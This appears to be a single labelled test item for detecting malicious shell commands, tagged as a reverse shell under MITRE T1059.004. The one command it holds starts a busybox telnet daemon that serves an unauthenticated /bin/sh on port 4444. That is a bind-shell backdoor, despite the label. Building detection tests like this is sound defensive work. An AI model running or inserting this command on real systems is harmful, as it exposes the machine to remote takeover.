# expect: reverse-shell | source: T1059.004
busybox telnetd -l /bin/sh -p 4444
